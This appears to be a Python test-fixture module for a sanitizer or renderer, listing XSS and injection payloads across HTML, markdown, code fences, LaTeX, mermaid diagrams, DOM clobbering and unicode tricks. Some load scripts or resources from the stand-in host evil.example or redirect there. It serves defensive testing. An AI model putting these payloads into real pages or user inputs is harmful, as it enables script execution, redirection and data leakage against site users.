"""Hostile texts: what has been used to make a page run, load, or become what it was not meant to.

Each would call `alert`, set `window.owned`, or ask `evil.example` for something if it had its way.
"""

EVIL = "https://evil.example"

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>owned=1</sCrIpT>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=alert(2)>",
    "<img src='x' onerror\x0b=\x0balert(3)>",
    "<svg/onload=alert(10)>",
    "<svg><animate onbegin=alert(20) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>owned=1</script></svg>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(21)></svg>",
    "<body onload=alert(22)><video autoplay onplay=alert(23) src=data:video/mp4,><audio src=x onerror=alert(24)>",
    "<details open ontoggle=alert(25)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(26)><button popovertarget=p onbeforetoggle=alert(27)>x</button>",
    f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<object data={EVIL}/o.swf></object><embed src=javascript:alert(28)>",
    f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css'</style>",
    f'<div style="background:url({EVIL}/style.png)">x</div>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}/>",
    "<form action=https://evil.example><input name=id><button formaction=javascript:alert(29)>go</button></form>",
    "<template><img src=x onerror=alert(30)></template><div><template shadowrootmode=open><slot onslotchange=alert(31)></template></div>",
    "<a href=java&#10;script:alert(32)>x</a><a href='  javascript:alert(33)'>y</a>",
    "<!--><img src=x onerror=alert(34)>--><![CDATA[<img src=x onerror=alert(35)>]]><?xml-stylesheet href=x?>",
    "&#60;img src=x onerror=alert(14)&#62; &lt;script&gt;alert(36)&lt;/script&gt;",
)
NESTED = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(40)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(41)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(42)>">',
    "<svg><foreignObject><iframe srcdoc=<script>alert(43)</script>></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(44)></annotation-xml></math>",
    "<select><template><img src=x onerror=alert(45)></template></select><table><td><svg><desc><img src=x onerror=alert(46)>",
    "<textarea></textarea><xmp><img src=x onerror=alert(47)></xmp><plaintext><img src=x onerror=alert(48)>",
)
MARKDOWN = (
    f"![x]({EVIL}/pixel.png)",
    f"![x][i] and [y][j]\n\n[i]: {EVIL}/named.png\n[j]: javascript:alert(50)",
    '![x](x"onerror="alert(3))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](javascript:alert(4))",
    "[click](JaVaScRiPt&colon;alert(5))",
    "[click](\x01javascript:alert(51)) [click](java\tscript:alert(52)) [click](&#x6A;avascript:alert(53))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)",
    "[click](vbscript:alert(7)) [click](blob:http://127.0.0.1/x) [click](file:///etc/passwd) [click](//evil.example)",
    f'<{EVIL}/" onmouseover="alert(8)> <javascript:alert(54)> <data:text/html,alert(55)>',
    f'[a]({EVIL} "title\' onmouseover=\'alert(9)") [b]({EVIL}/"onclick=alert(56)//)',
    "[![x](javascript:alert(57))](javascript:alert(58))",
    f"| a |\n|:-:|\n| <img src={EVIL}/cell.png onerror=alert(13)> |\n| [x](javascript:alert(59)) |",
    "- [x] <input type=checkbox onclick=alert(60)> [y](javascript:alert(61))",
    "# <img src=x onerror=alert(62)> {onclick=alert(63)} {#id .class style=color:red}",
    'http://evil.example/<script>alert(64)</script> www.evil.example/"onmouseover=alert(65)',
    "***[" * 60 + "<img src=x onerror=alert(66)>",
)
CODE = (
    '```"><img src=x onerror=alert(12)>\ncode\n```',
    "```js onload=alert(70)\n</code></pre><img src=x onerror=alert(71)>\n```",
    "```html\n<img src=x onerror=alert(72)><script>owned=1</script>\n```",
    "```constructor\n__proto__\n```\n\n```__proto__\nx\n```",
    "`<img src=x onerror=alert(73)>` ``</code><svg onload=alert(74)>``",
)
FORMULAS = (
    "$\\href{javascript:alert(80)}{x}$ and $\\url{javascript:alert(81)}$",
    f"$$\\includegraphics[height=1em]{{{EVIL}/formula.png}}$$",
    "\\(\\htmlData{onclick=alert(82)}{x}\\) \\(\\htmlStyle{position: fixed}{x}\\) \\(\\htmlId{app}{x}\\) \\(\\htmlClass{unseen}{x}\\)",
    '$\\color{red;background:url(https://evil.example/color)}{x}$ $\\fcolorbox{"onload=alert(83)}{red}{x}$',
    "$\\text{<img src=x onerror=alert(84)>}$ $\\unknown{<script>alert(85)</script>}$ $\\pmb{x} \\fcolorbox{red}{blue}{y} \\vec{z}$",
    "$\\def\\a{\\a\\a}\\a$ $$\\rule{99999em}{99999em} \\kern-9999em x \\raisebox{9999em}{y}$$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
)
DIAGRAMS = (
    '```mermaid\nflowchart TD\n A[a] --> B[b]\n click A "javascript:alert(90)"\n click B call alert(91)\n```',
    '```mermaid\nflowchart TD\n A["<img src=x onerror=alert(92)><script>owned=1</script>"] --> B["<iframe src=https://evil.example>"]\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "secure": [], "themeCSS": "*{background:url(https://evil.example/c)}"}}%%\n'
    'flowchart TD\n A["<b onclick=alert(93)>x</b>"] --> B\n click A href "javascript:alert(94)"\n```',
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nsequenceDiagram\n participant A as <svg onload=alert(95)>\n"
    " link A: x @ javascript:alert(96)\n A->>A: </text></svg><script>alert(97)</script>\n```",
    '```mermaid\nclassDiagram\n class A["<img src=x onerror=alert(98)>"]\n'
    ' click A href "javascript:alert(99)" "</style><script>owned=1</script>"\n```',
    '```mermaid\nflowchart TD\n A@{ img: "https://evil.example/node.png", label: "x" } --> B@{ icon: "x:y" }\n'
    " style A fill:url(https://evil.example/fill)\n```",
    '```mermaid\n%%{init: {"__proto__": {"owned": 1}, "constructor": {"prototype": {"owned": 1}}}}%%\n'
    'pie title </style><img src=x onerror=alert(100)>\n "a" : 1\n```',
)
NAMES = (
    '<a href="#/enter/stolen" id=app name=page>x</a> [in](#/enter/stolen) [up](/api/auth/logout)',
    "<img name=body><form id=document><input name=querySelector><a id=location href=javascript:alert(110)>",
    "\u202e<b>right to left</b>\u202c \u2066<img src=x onerror=alert(111)>\u2069 java\u200bscript:alert(112)",
    "<b>x</b>\u200b\u200d\ufeff\u2028<img src=x onerror=alert(113)>\u0085\u00ad",
    "{{constructor.constructor('owned=1')()}} ${owned=1} <%= owned=1 %> {@html '<img src=x onerror=alert(114)>'}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(115)//'>",
)
PAYLOADS = MARKUP + NESTED + MARKDOWN + CODE + FORMULAS + DIAGRAMS + NAMES
SHORT = tuple(text for text in PAYLOADS if len(text) <= 64 and "\n" not in text)
SPEAKERS = (*SHORT, "constructor", "__proto__", "toString", "neo anima", 'neo" onclick="alert(120)')
